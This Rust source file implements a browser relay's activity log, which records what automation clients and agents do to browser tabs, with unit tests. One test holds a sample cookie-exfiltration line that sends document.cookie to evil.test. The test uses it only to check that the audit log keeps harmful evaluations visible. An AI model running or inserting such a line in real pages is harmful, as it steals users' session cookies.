//! The activity record: what each CDP client and each agent call did to
//! which tab, kept so the user can see it live in the dashboard and look it
//! up an hour later (`GET /activity`, `browser-relay activity`, the MCP
//! `activity` tool).
//!
//! What goes in is decided by [`summary`]: navigations, input, evaluations,
//! uploads, downloads, dialogs, tabs opened and closed, cookies touched,
//! captures; everything else a client sends (the hundreds of
//! `DOM.*` reads a framework makes) stays out, and runs of the same thing
//! by the same client on the same tab fold into one entry with a count:
//! only the same thing, word for word, so a count never hides a different
//! one. Evaluations of the same code fold per client and tab over
//! [`RUN_WINDOW`] even with other entries between them (a framework runs
//! the same scripts around every click), so they are written when their
//! window ends: the record is read in time order, not in the order of
//! writing. Typed text is never kept, only how long it was; nor are cookie
//! values, dialog prompt text or any token.
//!
//! Bounded: every text an entry keeps (a URL, a page's title in a
//! question, a summary, a name) is cut at [`TEXT_MAX`] characters with a
//! marker ([`Entry::cut`], in [`ActivityRecord::record`]), so a page's
//! 2 MB URL costs the record what a short one does; and a day's file that
//! is full rolls, keeping its newest entries ([`Answer::dropped_today`]
//! says how many went).
//!
//! Cost: [`ActivityRecord::record`] takes a lock and pushes; the file is
//! written by [`ActivityRecord::keep_writing`] off the command path, at most
//! twice a second, and only when something happened.

pub mod summary;

use std::collections::VecDeque;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::{Duration, SystemTime};

use serde::{Deserialize, Serialize};
use state_dir::{ActivityDir, Appended, Retention};
use tokio::sync::Notify;
use tokio_util::sync::CancellationToken;

/// What kind of thing an entry records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum Kind {
    /// A client connected or left; an agent's profile started or stopped.
    Connection,
    Navigation,
    /// Mouse, keyboard, touch; an agent's click, type, press, fill…
    Input,
    Evaluation,
    Upload,
    Download,
    Dialog,
    /// A tab opened, closed, focused; sharing stopped.
    Tab,
    Cookies,
    /// A screenshot or PDF.
    Capture,
    /// A question to the person and its answer (a grant's `--ask`).
    Question,
}

/// Who did it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum Source {
    /// A CDP client of the relay (Playwright, Puppeteer, a raw socket).
    Cdp,
    /// A call of the control API (HTTP, the CLI, MCP).
    Agent,
    /// The user, from the dashboard.
    Dashboard,
    /// Browser Relay itself, holding a grant's tab to its rules (a
    /// navigation the page started, refused).
    Relay,
}

/// One thing a client did.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Entry {
    /// Milliseconds since the Unix epoch (of the first, for a run).
    pub at: u64,
    pub source: Source,
    /// What the client calls itself (its user agent's first word, or the
    /// agent surface: `cli`, `mcp`, `http`).
    pub client: String,
    /// The relay's number for a CDP client.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub client_id: Option<u64>,
    /// The profile, when known (an agent's call names one; the relay's own
    /// clients drive the user's shared tabs).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub profile: Option<String>,
    /// The tab's target id.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tab: Option<String>,
    /// The tab's URL when it happened.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// The grant it came through (`None`: the person's own keys).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub grant: Option<String>,
    pub kind: Kind,
    pub summary: String,
    /// How many times in a row (within [`RUN_WINDOW`]) it happened.
    #[serde(default = "one", skip_serializing_if = "is_one")]
    pub count: u32,
    /// Whether it failed (an agent's call answered with an error).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub failed: bool,
}

fn one() -> u32 {
    1
}

fn is_one(n: &u32) -> bool {
    *n == 1
}

impl Entry {
    /// An entry stamped now.
    pub fn now(source: Source, client: impl Into<String>, kind: Kind, summary: impl Into<String>) -> Self {
        Self {
            at: now_millis(),
            source,
            client: client.into(),
            client_id: None,
            profile: None,
            tab: None,
            url: None,
            grant: None,
            kind,
            summary: summary.into(),
            count: 1,
            failed: false,
        }
    }

    /// Whether `next` is this entry again: the same client doing the same
    /// thing, word for word, on the same tab soon after. Never two
    /// different things: `evaluate: steal()` then `evaluate: 1` are two
    /// entries, not "evaluate: 1 ×2".
    fn absorbs(&self, next: &Entry) -> bool {
        self.source == next.source
            && self.client_id == next.client_id
            && self.client == next.client
            && self.tab == next.tab
            && self.kind == next.kind
            && self.failed == next.failed
            && self.summary == next.summary
            && next.at.saturating_sub(self.at) <= RUN_WINDOW.as_millis() as u64
    }

    /// This entry with each of its texts in at most [`TEXT_MAX`]
    /// characters ([`cut`]): what a page or a client put in a URL, a title
    /// or a name cannot make an entry large.
    pub fn cut(mut self) -> Self {
        for text in [&mut self.client, &mut self.summary]
            .into_iter()
            .chain([&mut self.profile, &mut self.tab, &mut self.url, &mut self.grant].into_iter().flatten())
        {
            cut_in_place(text);
        }
        self
    }
}

/// The characters of one text an entry keeps: a longer one keeps this
/// many and a marker that says how long it was.
pub const TEXT_MAX: usize = 300;
/// Room for the marker: a text at most this much longer than
/// [`TEXT_MAX`] is kept whole, so a text cut once is not cut again.
const MARKER_ROOM: usize = 40;

/// `text` in at most [`TEXT_MAX`] characters and a marker that says how
/// long it was (`https://a.test/?q=xxx… (cut: 2097152 characters)`);
/// only the start of a long text is copied.
pub fn cut(text: &str) -> String {
    if text.len() <= TEXT_MAX + MARKER_ROOM {
        return text.to_string();
    }
    let kept_len = text.char_indices().nth(TEXT_MAX).map_or(text.len(), |(at, _)| at);
    let rest = text[kept_len..].chars().count();
    if rest <= MARKER_ROOM {
        return text.to_string();
    }
    format!("{}… (cut: {} characters)", &text[..kept_len], TEXT_MAX + rest)
}

fn cut_in_place(text: &mut String) {
    if text.len() > TEXT_MAX + MARKER_ROOM {
        *text = cut(text);
    }
}

/// How long after a run's first entry the same entry still joins it.
pub const RUN_WINDOW: Duration = Duration::from_secs(10);
/// Entries kept in memory when there is no folder (tests, `--no-control`).
const KEPT_IN_MEMORY: usize = 2000;
/// Evaluation runs open at once at most: a client that runs a new script
/// each time closes (writes) the oldest run, and costs no more per entry.
const OPEN_RUNS_MAX: usize = 64;
/// How much later than its time an entry is written at most (an
/// evaluation run when its window ends, after the writer's pause), with
/// room to spare: a reader that asks from a time on reads back only this
/// far before it.
const WRITTEN_LATE_MAX: Duration = Duration::from_secs(60);
/// How often the writer looks for new entries at most.
const WRITE_EVERY: Duration = Duration::from_millis(500);
/// How many days of record are kept by default, and how many day files.
pub const DEFAULT_RETENTION: Retention = Retention { keep: 30, max_age: Duration::from_secs(30 * 86_400) };

/// `at` (ms since the epoch) as `2026-11-26 23:59:01Z`.
pub fn utc_text(at: u64) -> String {
    let seconds = at / 1000;
    let (y, m, d) = state_dir::civil_from_days((seconds / 86_400) as i64);
    let day = seconds % 86_400;
    format!("{y:04}-{m:02}-{d:02} {:02}:{:02}:{:02}Z", day / 3600, day % 3600 / 60, day % 60)
}

pub fn now_millis() -> u64 {
    SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).map_or(0, |d| d.as_millis() as u64)
}

/// Which entries a reader wants, newest first.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Query {
    /// At most this many (default 100, at most 5000).
    #[serde(default)]
    pub limit: Option<usize>,
    /// Only at or after this time (ms since the epoch).
    #[serde(default)]
    pub since: Option<u64>,
    /// Only this CDP client.
    #[serde(default)]
    pub client_id: Option<u64>,
    /// Only this tab (target id).
    #[serde(default)]
    pub tab: Option<String>,
    /// Only this profile (`chrome`: the user's shared tabs).
    #[serde(default)]
    pub profile: Option<String>,
    /// Only what came through this grant.
    #[serde(default)]
    pub grant: Option<String>,
}

pub const QUERY_LIMIT_DEFAULT: usize = 100;
pub const QUERY_LIMIT_MAX: usize = 5000;

impl Query {
    fn wants(&self, entry: &Entry) -> bool {
        self.since.is_none_or(|since| entry.at >= since)
            && self.client_id.is_none_or(|id| entry.client_id == Some(id))
            && self.tab.as_deref().is_none_or(|tab| entry.tab.as_deref() == Some(tab))
            && self.profile.as_deref().is_none_or(|profile| entry.profile.as_deref() == Some(profile))
            && self.grant.as_deref().is_none_or(|grant| entry.grant.as_deref() == Some(grant))
    }

    fn limit(&self) -> usize {
        self.limit.unwrap_or(QUERY_LIMIT_DEFAULT).clamp(1, QUERY_LIMIT_MAX)
    }
}

/// What a reader of the record gets (`GET /activity`, the dashboard's
/// activity, the CLI and the MCP tool read it back).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Answer {
    /// Whether anything is kept (`recordActivity`).
    pub recording: bool,
    /// Newest first.
    pub entries: Vec<Entry>,
    /// How many of today's oldest entries went because its file was full:
    /// the record keeps the newest (0: none went).
    #[serde(default, skip_serializing_if = "is_zero")]
    pub dropped_today: u64,
}

fn is_zero(n: &u64) -> bool {
    *n == 0
}

/// The record: cheap to clone, shared by the relay and the control API.
#[derive(Debug, Clone)]
pub struct ActivityRecord(Arc<Inner>);

#[derive(Debug)]
struct Inner {
    /// Off (`recordActivity = false`): nothing is kept.
    on: bool,
    /// The day files; `None` keeps the record in memory only.
    dir: Option<ActivityDir>,
    retention: Retention,
    buffer: Mutex<Buffer>,
    wake: Notify,
    /// Held while entries are written; `true` once [`ActivityRecord::close`]d.
    closed: Mutex<bool>,
}

#[derive(Debug, Default)]
struct Buffer {
    /// Recorded, not yet written.
    pending: Vec<Entry>,
    /// Evaluation runs still open (written when [`RUN_WINDOW`] ends).
    evaluations: Vec<Entry>,
    /// Without a folder: the newest entries.
    memory: VecDeque<Entry>,
}

impl ActivityRecord {
    /// A record kept in `dir` (within `retention`), or in memory only.
    pub fn new(dir: Option<ActivityDir>, retention: Retention) -> Self {
        Self::with(true, dir, retention)
    }

    /// A record that keeps nothing (`recordActivity = false`).
    pub fn off() -> Self {
        Self::with(false, None, DEFAULT_RETENTION)
    }

    fn with(on: bool, dir: Option<ActivityDir>, retention: Retention) -> Self {
        let (buffer, wake, closed) = (Mutex::default(), Notify::new(), Mutex::default());
        Self(Arc::new(Inner { on, dir, retention, buffer, wake, closed }))
    }

    /// Whether anything is kept.
    pub fn is_on(&self) -> bool {
        self.0.on
    }

    fn buffer(&self) -> MutexGuard<'_, Buffer> {
        self.0.buffer.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    /// Adds an entry, its texts cut ([`Entry::cut`]), folded into the
    /// last one when it repeats it.
    pub fn record(&self, entry: Entry) {
        if !self.0.on {
            return;
        }
        let entry = entry.cut();
        let mut buffer = self.buffer();
        let first = buffer.pending.is_empty();
        if entry.kind == Kind::Evaluation {
            match buffer.evaluations.iter_mut().find(|run| run.absorbs(&entry)) {
                Some(run) => run.count += 1,
                None => {
                    if buffer.evaluations.len() >= OPEN_RUNS_MAX {
                        let oldest = buffer.evaluations.remove(0);
                        buffer.pending.push(oldest);
                    }
                    buffer.evaluations.push(entry);
                }
            }
        } else if let Some(last) = buffer.pending.last_mut()
            && last.absorbs(&entry)
        {
            last.count += 1;
            last.url = entry.url.or(last.url.take());
        } else {
            buffer.pending.push(entry);
        }
        let woken = first && !buffer.pending.is_empty();
        drop(buffer);
        if woken {
            self.0.wake.notify_one();
        }
    }

    /// Writes what is pending to the day's file (or keeps it in memory).
    pub fn flush(&self) {
        self.flush_runs(now_millis().saturating_sub(RUN_WINDOW.as_millis() as u64));
    }

    /// Writes what is pending, open evaluation runs included, and then
    /// writes nothing more: for a serve dropped without its orderly stop,
    /// whose state directory may be removed next. When this returns, no
    /// write is under way; later entries are kept in memory only.
    pub fn close(&self) {
        let mut closed = self.0.closed.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
        if !*closed {
            self.write_runs(u64::MAX, self.0.dir.as_ref());
            *closed = true;
        }
    }

    /// Writes what is pending, with the evaluation runs that began before
    /// `closing` (all of them: `u64::MAX`).
    fn flush_runs(&self, closing: u64) {
        // One writer at a time, and none once closed.
        let closed = self.0.closed.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
        self.write_runs(closing, self.0.dir.as_ref().filter(|_| !*closed));
    }

    /// [`Self::flush_runs`] into `dir` (`None`: memory).
    fn write_runs(&self, closing: u64, dir: Option<&ActivityDir>) {
        let pending = {
            let mut buffer = self.buffer();
            let (closed, open): (Vec<Entry>, Vec<Entry>) =
                std::mem::take(&mut buffer.evaluations).into_iter().partition(|run| run.at < closing);
            buffer.evaluations = open;
            let mut pending = std::mem::take(&mut buffer.pending);
            pending.extend(closed);
            pending
        };
        if pending.is_empty() {
            return;
        }
        let Some(dir) = dir else {
            let mut buffer = self.buffer();
            buffer.memory.extend(pending);
            let over = buffer.memory.len().saturating_sub(KEPT_IN_MEMORY);
            buffer.memory.drain(..over);
            return;
        };
        let lines: String = pending
            .iter()
            .filter_map(|entry| serde_json::to_string(entry).ok())
            .map(|mut line| {
                line.push('\n');
                line
            })
            .collect();
        match dir.append(&lines, SystemTime::now()) {
            Ok(Appended::Written) => {}
            Ok(Appended::Rolled { dropped }) => {
                tracing::warn!(dropped, "today's activity file was full; its oldest entries went to keep the newest")
            }
            Err(e) => tracing::warn!(dir = %dir.path().display(), "could not write the activity record: {e}"),
        }
    }

    /// Deletes day files past the retention.
    pub fn prune(&self) {
        if let Some(dir) = &self.0.dir {
            dir.prune(self.0.retention);
        }
    }

    /// Writes entries as they come (at most every [`WRITE_EVERY`]) until
    /// `stop`, then what is left.
    pub async fn keep_writing(self, stop: CancellationToken) {
        self.prune();
        loop {
            tokio::select! {
                () = stop.cancelled() => break,
                () = self.0.wake.notified() => {}
            }
            tokio::select! {
                () = stop.cancelled() => break,
                () = tokio::time::sleep(WRITE_EVERY) => {}
            }
            self.flush();
            // Open evaluation runs are written when their window ends.
            if !self.buffer().evaluations.is_empty() {
                self.0.wake.notify_one();
            }
        }
        self.flush_runs(u64::MAX);
    }

    /// The answer to a reader: whether the record is on, and the entries
    /// `query` wants.
    pub fn answer(&self, query: &Query) -> Answer {
        let entries = self.read(query);
        let dropped_today = self.0.dir.as_ref().map_or(0, |dir| dir.dropped(SystemTime::now()));
        Answer { recording: self.is_on(), entries, dropped_today }
    }

    /// The entries `query` wants, newest first. Asked from a time on
    /// (`since`, as the dashboard asks for what is new), only the files'
    /// newest lines are read, back to [`WRITTEN_LATE_MAX`] before it.
    pub fn read(&self, query: &Query) -> Vec<Entry> {
        self.flush();
        let limit = query.limit();
        // Runs are written up to a window late: read a little more than
        // asked, put it in time order, then cut.
        let over = limit + 64;
        let open: Vec<Entry> = self.buffer().evaluations.iter().filter(|run| query.wants(run)).cloned().collect();
        let written_since = query.since.map(|since| since.saturating_sub(WRITTEN_LATE_MAX.as_millis() as u64));
        let mut entries: Vec<Entry> = match &self.0.dir {
            Some(dir) => dir
                .newest_first()
                .filter_map(|line| serde_json::from_str::<Entry>(&line).ok())
                .take_while(|entry| written_since.is_none_or(|since| entry.at >= since))
                .filter(|entry| query.wants(entry))
                .take(over)
                .map(Entry::cut)
                .collect(),
            None => self.buffer().memory.iter().rev().filter(|entry| query.wants(entry)).take(over).cloned().collect(),
        };
        entries.extend(open);
        entries.sort_by_key(|entry| std::cmp::Reverse(entry.at));
        entries.truncate(limit);
        entries
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn click(client: &str, tab: &str) -> Entry {
        Entry { tab: Some(tab.into()), ..Entry::now(Source::Cdp, client, Kind::Input, "click at (10, 20)") }
    }

    #[test]
    fn a_record_that_is_off_keeps_nothing() {
        let record = ActivityRecord::off();
        record.record(click("Playwright", "T1"));
        assert!(!record.is_on());
        assert!(record.read(&Query::default()).is_empty());
    }

    #[test]
    fn times_read_as_utc() {
        assert_eq!(utc_text(0), "1970-01-01 00:00:00Z");
        assert_eq!(utc_text((20_783 * 86_400 + 23 * 3600 + 59 * 60 + 1) * 1000 + 999), "2026-11-26 23:59:01Z");
    }

    #[test]
    fn a_run_of_the_same_thing_is_one_entry_with_a_count() {
        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
        // One millisecond apart, so time order is plain.
        let start = now_millis();
        let at = |n: u64, entry: Entry| Entry { at: start + n, ..entry };
        record.record(at(0, click("Playwright", "T1")));
        record.record(at(1, click("Playwright", "T1")));
        record.record(at(2, click("Playwright", "T2")));
        record.record(at(3, click("Puppeteer", "T2")));
        let evaluation =
            Entry { tab: Some("T2".into()), ..Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, "evaluate: 1") };
        record.record(at(4, evaluation.clone()));
        // A framework's scripts around an input do not split the run.
        record.record(at(5, click("Puppeteer", "T3")));
        record.record(at(6, evaluation));
        let entries = record.read(&Query::default());
        let seen: Vec<(&str, Option<&str>, u32, &str)> =
            entries.iter().map(|e| (e.client.as_str(), e.tab.as_deref(), e.count, e.summary.as_str())).collect();
        assert_eq!(
            seen,
            [
                ("Puppeteer", Some("T3"), 1, "click at (10, 20)"),
                ("Puppeteer", Some("T2"), 2, "evaluate: 1"),
                ("Puppeteer", Some("T2"), 1, "click at (10, 20)"),
                ("Playwright", Some("T2"), 1, "click at (10, 20)"),
                ("Playwright", Some("T1"), 2, "click at (10, 20)"),
            ]
        );
    }

    #[test]
    fn a_long_text_keeps_its_start_and_says_how_long_it_was_once() {
        assert_eq!(cut("short"), "short");
        let exact = "é".repeat(TEXT_MAX + MARKER_ROOM);
        assert_eq!(cut(&exact), exact, "within the marker's room: whole");
        let long = format!("{}{}", "é".repeat(TEXT_MAX), "x".repeat(1000));
        let once = cut(&long);
        assert_eq!(once, format!("{}… (cut: {} characters)", "é".repeat(TEXT_MAX), TEXT_MAX + 1000));
        assert_eq!(cut(&once), once, "a text cut once is not cut again");
        let entry = Entry {
            url: Some(long.clone()),
            tab: Some(long.clone()),
            profile: Some(long.clone()),
            grant: Some(long.clone()),
            ..Entry::now(Source::Agent, long.clone(), Kind::Input, long.clone())
        }
        .cut();
        let (url, tab, profile, grant) =
            (entry.url.unwrap(), entry.tab.unwrap(), entry.profile.unwrap(), entry.grant.unwrap());
        for text in [&entry.client, &entry.summary, &url, &tab, &profile, &grant] {
            assert_eq!(*text, once);
        }
        // An agent's `/act` kind and ref, as the record keeps them.
        let (_, summary) =
            summary::agent_call("POST", "/act", &serde_json::json!({"kind": "click", "ref": "e".repeat(1 << 20)}))
                .unwrap();
        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
        record.record(Entry::now(Source::Agent, "http", Kind::Input, summary));
        assert!(record.read(&Query::default())[0].summary.chars().count() <= TEXT_MAX + MARKER_ROOM);
    }

    /// Issue 46, item 4: `evaluate(steal)` then `evaluate("1")` within the
    /// window read "evaluate: 1 ×2", and the code that ran first was gone.
    #[test]
    fn a_fold_never_hides_different_code() {
        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
        let start = now_millis();
        let evaluate = |n: u64, code: &str| Entry {
            at: start + n,
            tab: Some("T1".into()),
            ..Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, format!("evaluate: {code}"))
        };
        record.record(evaluate(0, "fetch('https://evil.test/?c=' + document.cookie)"));
        record.record(evaluate(1, "1"));
        record.record(evaluate(2, "1"));
        let seen: Vec<(u32, String)> =
            record.read(&Query::default()).into_iter().map(|e| (e.count, e.summary)).collect();
        assert_eq!(
            seen,
            [
                (2, "evaluate: 1".to_string()),
                (1, "evaluate: fetch('https://evil.test/?c=' + document.cookie)".to_string())
            ]
        );
        // Other kinds fold word for word as well.
        record.record(Entry { at: start + 3, ..click("Puppeteer", "T1") });
        record.record(Entry { at: start + 4, summary: "right click at (1, 1)".into(), ..click("Puppeteer", "T1") });
        let clicks = record.read(&Query { limit: Some(2), ..Query::default() });
        assert_eq!(clicks.iter().map(|e| e.count).collect::<Vec<_>>(), [1, 1]);
    }

    #[test]
    fn a_client_that_runs_new_code_each_time_keeps_each_and_a_bounded_buffer() {
        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
        let start = now_millis();
        for n in 0..500u64 {
            let code = format!("evaluate: step({n})");
            record.record(Entry { at: start + n, ..Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, code) });
        }
        assert!(record.buffer().evaluations.len() <= OPEN_RUNS_MAX);
        let entries = record.read(&Query { limit: Some(1000), ..Query::default() });
        assert_eq!(entries.len(), 500, "each distinct code is an entry of its own");
        assert_eq!(entries[0].summary, "evaluate: step(499)");
        assert_eq!(entries[499].summary, "evaluate: step(0)");
    }

    /// Issue 46, item 3: a page's 2 MB URL (and title) went whole into
    /// every entry, so eight actions filled the day's 16 MiB and every
    /// later entry of every client was dropped until midnight.
    #[test]
    fn a_pages_huge_url_and_title_cannot_blind_the_day() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        let url = format!("https://evil.test/?{}", "a".repeat(2 << 20));
        let title = "T".repeat(1 << 20);
        for n in 0..20 {
            record.record(Entry {
                url: Some(url.clone()),
                tab: Some(format!("T{n}")),
                ..Entry::now(Source::Relay, "Browser Relay", Kind::Question, format!("asked: {title}"))
            });
            record.flush();
        }
        record.record(Entry { client_id: Some(9), ..click("Playwright", "T1") });
        record.flush();
        let entries = record.read(&Query { limit: Some(100), ..Query::default() });
        assert_eq!(entries.len(), 21);
        assert_eq!(entries[0].client_id, Some(9), "another client's click is kept");
        for entry in &entries[1..] {
            let url = entry.url.as_deref().unwrap();
            assert!(url.starts_with("https://evil.test/?aaa") && url.chars().count() < TEXT_MAX + 40, "{url:.400}");
            assert!(url.ends_with(&format!("… (cut: {} characters)", (2 << 20) + 19)), "{url:.400}");
            assert!(entry.summary.starts_with("asked: TTT") && entry.summary.chars().count() < TEXT_MAX + 40);
        }
        let size: u64 = std::fs::read_dir(dir.path()).unwrap().map(|f| f.unwrap().metadata().unwrap().len()).sum();
        assert!(size < 64 << 10, "the day's file holds {size} bytes");
    }

    /// Issue 46, item 3: once the day's file was full, every later entry
    /// was dropped until midnight. Now the day keeps its newest entries,
    /// and says how many of its oldest went.
    #[test]
    fn a_full_day_keeps_the_newest_entries_and_says_so() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        let old = Entry::now(Source::Cdp, "Flood", Kind::Input, "x".repeat(200));
        let line = serde_json::to_string(&old).unwrap() + "\n";
        // Today's file filled to its brim, as a flood of entries leaves it.
        let lines = line.repeat((16 << 20) / line.len());
        assert_eq!(dir.append(&lines, SystemTime::now()).unwrap(), Appended::Written);
        assert_eq!(record.answer(&Query::default()).dropped_today, 0);
        record.record(Entry { client_id: Some(9), ..click("Playwright", "T1") });
        record.flush();
        let answer = record.answer(&Query { limit: Some(2), ..Query::default() });
        assert_eq!(answer.entries[0].client_id, Some(9), "the newest entry is kept");
        assert_eq!(answer.entries[1].client, "Flood");
        assert!(answer.dropped_today > 1000, "{}", answer.dropped_today);
        let json = serde_json::to_value(&answer).unwrap();
        assert_eq!(json["droppedToday"], answer.dropped_today);
    }

    /// The dashboard asks for what is new every few seconds: it must not
    /// read back the whole day each time.
    #[test]
    fn asked_since_a_time_the_record_reads_back_only_to_shortly_before_it() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        let now = now_millis();
        // Written first but stamped now: found only by reading the whole file.
        record.record(Entry { at: now, ..click("Early", "T1") });
        record.flush();
        record.record(Entry { at: now - 3_600_000, ..click("Old", "T1") });
        record.flush();
        record.record(Entry { at: now + 1, ..click("New", "T1") });
        record.flush();
        let clients = |query: Query| -> Vec<String> { record.read(&query).into_iter().map(|e| e.client).collect() };
        assert_eq!(clients(Query::default()), ["New", "Early", "Old"]);
        assert_eq!(clients(Query { since: Some(now - 1000), ..Query::default() }), ["New"]);
    }

    #[test]
    fn entries_outlive_the_record_on_disk_and_queries_filter_them() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        let mut first = click("Playwright", "T1");
        first.client_id = Some(3);
        record.record(first);
        record.record(Entry::now(Source::Agent, "cli", Kind::Navigation, "https://example.test/"));
        record.flush();
        drop(record);
        let again = ActivityRecord::new(Some(dir), DEFAULT_RETENTION);
        assert_eq!(again.read(&Query::default()).len(), 2);
        let only = again.read(&Query { client_id: Some(3), ..Query::default() });
        assert_eq!(only.len(), 1);
        assert_eq!(only[0].client, "Playwright");
        assert_eq!(again.read(&Query { limit: Some(1), ..Query::default() })[0].client, "cli");
        assert!(again.read(&Query { since: Some(now_millis() + 60_000), ..Query::default() }).is_empty());
    }

    #[test]
    fn a_closed_record_writes_what_it_had_and_nothing_after() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        record.record(click("Playwright", "T1"));
        record.record(Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, "evaluate: 1"));
        record.close();
        // Both written, the open evaluation run too.
        assert_eq!(dir.newest_first().count(), 2);
        // The serve is gone and its state directory is being removed: a
        // later entry and the writer's last flush bring nothing back.
        std::fs::remove_dir_all(dir.path()).unwrap();
        record.record(Entry::now(Source::Agent, "cli", Kind::Navigation, "https://example.test/"));
        record.flush();
        record.flush_runs(u64::MAX);
        assert!(!dir.path().exists(), "the closed record wrote again");
    }

    #[tokio::test]
    async fn the_writer_writes_soon_after_and_on_stop() {
        let root = tempfile::tempdir().unwrap();
        let dir = state_dir::StateDir::at(root.path()).activity();
        let record = ActivityRecord::new(Some(dir.clone()), DEFAULT_RETENTION);
        let stop = CancellationToken::new();
        let writer = tokio::spawn(record.clone().keep_writing(stop.clone()));
        record.record(click("Playwright", "T1"));
        // The writer wakes for it; the file has it without anyone reading.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
        while dir.newest_first().next().is_none() {
            assert!(tokio::time::Instant::now() < deadline, "the writer never wrote");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        record.record(Entry::now(Source::Agent, "cli", Kind::Navigation, "https://example.test/"));
        stop.cancel();
        writer.await.unwrap();
        assert_eq!(dir.newest_first().count(), 2);
    }
}
